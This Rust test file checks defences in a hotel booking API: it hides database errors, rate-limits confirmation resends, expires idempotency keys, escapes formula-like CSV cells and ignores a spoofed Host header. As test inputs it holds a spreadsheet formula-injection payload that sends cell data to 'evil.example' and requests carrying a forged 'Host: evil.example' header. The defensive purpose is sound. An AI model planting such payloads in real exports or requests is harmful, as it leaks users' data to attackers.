//! What the server must not give away or let a caller abuse: database error text, other
//! accounts' names, links to a host the caller chose, unbounded mail, formulas in reports,
//! idempotency keys kept forever, a property's name to anyone who knows its id.

use axum::Router;
use axum::body::Body;
use axum::http::{Method, Request, StatusCode, header};
use chrono::Duration;
use serde_json::{Value, json};
use tower::ServiceExt;
use uuid::Uuid;
use wink_api::{ApiConfig, App};
use wink_store::daily_rates::{RateChange, RatePatch, UnitsChange};

use crate::booking_grid::book;
use crate::bookings::{Shop, day};
use crate::on_both_engines;
use crate::reports::{parse_csv, report, request};
use crate::support::TestApp;

/// `/ready` and any other 503 say the service is unavailable, never why: the database's error
/// text (here, sqlx's "closed pool") stays in the log.
async fn unavailable_answers_hide_the_database_error(app: TestApp) {
    let p = app.persona(&[]).await;
    let property = app.property(&p).await;
    app.store.close().await;

    let r = app.call(Method::GET, "/ready", None, None).await;
    let problem = r.problem(StatusCode::SERVICE_UNAVAILABLE);
    let detail = problem["detail"].as_str().unwrap();
    assert!(
        detail.starts_with("the service is temporarily unavailable"),
        "{detail}"
    );
    assert!(
        problem["instance"]
            .as_str()
            .unwrap()
            .starts_with("urn:uuid:")
    );
    let body = String::from_utf8_lossy(&r.bytes).to_lowercase();
    assert!(
        !body.contains("pool") && !body.contains("database"),
        "{body}"
    );

    let r = app
        .get(
            &format!("/api/managing-entity/{property}/extranet/property"),
            &p.token,
        )
        .await;
    let body = String::from_utf8_lossy(&r.bytes).to_lowercase();
    assert_eq!(r.status, StatusCode::SERVICE_UNAVAILABLE, "{body}");
    assert!(
        !body.contains("pool") && !body.contains("storage"),
        "{body}"
    );
}

/// A guest named like a spreadsheet formula is written as text (a leading `'`); the amount
/// columns stay numbers.
async fn report_cells_never_start_a_formula(app: TestApp) {
    let s = Shop::new(&app, 5).await;
    book(
        &app,
        &s,
        day(1),
        day(3),
        (
            "=HYPERLINK(\"http://evil.example/\"&A1)",
            "-Lee",
            "ann@example.com",
        ),
    )
    .await;
    let body = request(
        &[
            ("First", "user.firstName"),
            ("Last", "user.lastName"),
            ("Total", "financialBreakdown.sourceAmount"),
        ],
        json!({}),
    );
    let r = report(&app, &s, &body).await;
    assert_eq!(
        r.status,
        StatusCode::OK,
        "{}",
        String::from_utf8_lossy(&r.bytes)
    );
    let rows = parse_csv(&r.bytes);
    assert_eq!(
        rows,
        [
            vec!["First", "Last", "Total"],
            vec!["'=HYPERLINK(\"http://evil.example/\"&A1)", "'-Lee", "4050"],
        ]
    );
}

/// The OAuth metadata of a router built with `config`, asked with an attacker's `Host`.
async fn metadata_behind(app: &TestApp, config: ApiConfig) -> Value {
    let App { router, .. } = wink_api::build(app.store.clone(), config)
        .await
        .expect("build");
    let router: Router = router;
    let response = router
        .oneshot(
            Request::get("/.well-known/oauth-authorization-server")
                .header(header::HOST, "evil.example")
                .body(Body::empty())
                .unwrap(),
        )
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let bytes = axum::body::to_bytes(response.into_body(), usize::MAX)
        .await
        .unwrap();
    serde_json::from_slice(&bytes).unwrap()
}

/// Links name `public_url`, else the listen address, never the request's `Host`.
async fn links_never_follow_the_host_header(app: TestApp) {
    let listening = ApiConfig {
        listen_address: Some("127.0.0.1:8443".parse().unwrap()),
        ..ApiConfig::default()
    };
    let meta = metadata_behind(&app, listening.clone()).await;
    assert_eq!(meta["token_endpoint"], "http://127.0.0.1:8443/oauth2/token");
    assert!(!meta.to_string().contains("evil.example"), "{meta}");

    let wildcard = ApiConfig {
        listen_address: Some("0.0.0.0:8080".parse().unwrap()),
        ..ApiConfig::default()
    };
    let meta = metadata_behind(&app, wildcard).await;
    assert_eq!(meta["token_endpoint"], "http://localhost:8080/oauth2/token");

    let public = ApiConfig {
        public_url: Some("https://supplier.example.com/".into()),
        ..listening
    };
    let meta = metadata_behind(&app, public).await;
    assert_eq!(
        meta["token_endpoint"],
        "https://supplier.example.com/oauth2/token"
    );

    // A booking answer asked with another Host keeps the server's own links.
    let s = Shop::new(&app, 5).await;
    let query = s.query(day(1), day(2), 2);
    let offer = s.offer(&app, &query).await;
    let body = s.booking_request(&query, &offer, ("Ann", "Lee", "ann@example.com"));
    let r = app
        .send(
            Request::post(format!("{}/sandbox/booking", s.root()))
                .header(header::HOST, "evil.example")
                .header(header::AUTHORIZATION, format!("Bearer {}", s.p.token))
                .header(header::CONTENT_TYPE, "application/json")
                .body(Body::from(body.to_string()))
                .unwrap(),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.json);
    let url = r.json["hotelImageUrl"].as_str().unwrap();
    assert!(url.starts_with("http://localhost/media/"), "{url}");
}

/// A booking's guest gets at most 5 confirmations a day, counted from the outbox; beyond, 429
/// with the seconds until the oldest leaves the window, and nothing recorded.
async fn resend_is_bounded_per_booking(app: TestApp) {
    let s = Shop::new(&app, 5).await;
    let booked = book(&app, &s, day(1), day(2), ("Ann", "Lee", "ann@example.com")).await;
    let id = booked["id"].as_str().unwrap().to_string();
    let uuid: Uuid = id.parse().unwrap();
    let resend = format!("{}/booking/{id}/resend", s.root());
    for _ in 0..5 {
        let r = app.patch(&resend, &s.p.token, &json!({})).await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.json);
    }
    let r = app.patch(&resend, &s.p.token, &json!({})).await;
    let problem = r.problem(StatusCode::TOO_MANY_REQUESTS);
    assert!(
        problem["detail"]
            .as_str()
            .unwrap()
            .contains("5 confirmations in 24 hours"),
        "{problem}"
    );
    let retry: u64 = r.headers["retry-after"].to_str().unwrap().parse().unwrap();
    assert!((86_000..=86_400).contains(&retry), "{retry}");
    let notes = app.store.booking_notifications(&[uuid]).await.unwrap();
    assert_eq!(notes.len(), 5);
    assert!(notes.iter().all(|n| n.recipient == "ann@example.com"));
    // The bound is the booking's: another booking of the same guest is not affected.
    let other = book(&app, &s, day(3), day(4), ("Ann", "Lee", "ann@example.com")).await;
    let r = app
        .patch(
            &format!(
                "{}/booking/{}/resend",
                s.root(),
                other["id"].as_str().unwrap()
            ),
            &s.p.token,
            &json!({}),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.json);
}

/// Resends racing each other still record at most 5: the count and the insert happen under the
/// booking's row lock.
async fn concurrent_resends_stay_bounded(app: TestApp) {
    let s = Shop::new(&app, 5).await;
    let booked = book(&app, &s, day(1), day(2), ("Ann", "Lee", "ann@example.com")).await;
    let id = booked["id"].as_str().unwrap().to_string();
    let resend = format!("{}/booking/{id}/resend", s.root());
    let empty = json!({});
    let answers =
        futures_util::future::join_all((0..12).map(|_| app.patch(&resend, &s.p.token, &empty)))
            .await;
    let mut statuses: Vec<u16> = answers.iter().map(|r| r.status.as_u16()).collect();
    statuses.sort();
    assert_eq!(statuses, [[200; 5].as_slice(), &[429; 7]].concat());
    let uuid: Uuid = id.parse().unwrap();
    assert_eq!(
        app.store
            .booking_notifications(&[uuid])
            .await
            .unwrap()
            .len(),
        5
    );
}

/// `deltaQuantity` keys are remembered 24 hours: an older key is reused as new, and the purge
/// removes old keys.
async fn rate_idempotency_keys_expire_and_are_purged(app: TestApp) {
    let s = Shop::new(&app, 5).await;
    let date = day(3);
    let property = s.property;
    let change = |key: &str| RateChange {
        master_rate_id: s.master.parse().unwrap(),
        room_type_id: s.room.parse().unwrap(),
        day: date,
        patch: RatePatch::default(),
        units: UnitsChange::Add {
            delta: 1,
            idempotency_key: Some(key.into()),
        },
    };
    let now = app.state.now();
    let (yesterday, long_ago) = (now - Duration::hours(25), now - Duration::days(30));
    // Keys first used 25 hours ago.
    for key in ["restock", "ancient"] {
        app.store
            .apply_rate_changes(property, &[change(key)], yesterday, long_ago, None)
            .await
            .unwrap();
    }
    assert_eq!(s.units(&app, date, date).await, [7]);

    let update = |key: &str| {
        json!([{ "key": { "hotelIdentifier": property, "ratePlanIdentifier": s.plan,
                          "guestRoomIdentifier": s.room, "date": date },
                 "value": { "deltaQuantity": 1, "idempotencyKey": key } }])
    };
    let put = format!("{}/rate/update", s.root());
    // Expired: the reuse applies, and is then remembered again.
    let r = app.put(&put, &s.p.token, &update("restock")).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.json);
    assert_eq!(s.units(&app, date, date).await, [8]);
    app.put(&put, &s.p.token, &update("restock")).await;
    assert_eq!(s.units(&app, date, date).await, [8]);

    // The purge forgets what is older than the retention, and only that.
    let purged = app
        .store
        .purge_rate_idempotency_keys(now - Duration::hours(24))
        .await
        .unwrap();
    // One key, unless a keyed write above already purged it (one write in 64 does): what
    // follows checks that it is gone and that the fresh one is kept.
    assert!(purged <= 1, "{purged}");
    // Gone: even a write that would still honour a 30-day-old key applies it.
    app.store
        .apply_rate_changes(
            property,
            &[change("ancient")],
            app.state.now(),
            long_ago,
            None,
        )
        .await
        .unwrap();
    assert_eq!(s.units(&app, date, date).await, [9]);
    app.store
        .apply_rate_changes(
            property,
            &[change("restock")],
            app.state.now(),
            long_ago,
            None,
        )
        .await
        .unwrap();
    assert_eq!(s.units(&app, date, date).await, [9]);
}

on_both_engines!(
    unavailable_answers_hide_the_database_error,
    report_cells_never_start_a_formula,
    links_never_follow_the_host_header,
    resend_is_bounded_per_booking,
    concurrent_resends_stay_bounded,
    rate_idempotency_keys_expire_and_are_purged,
);
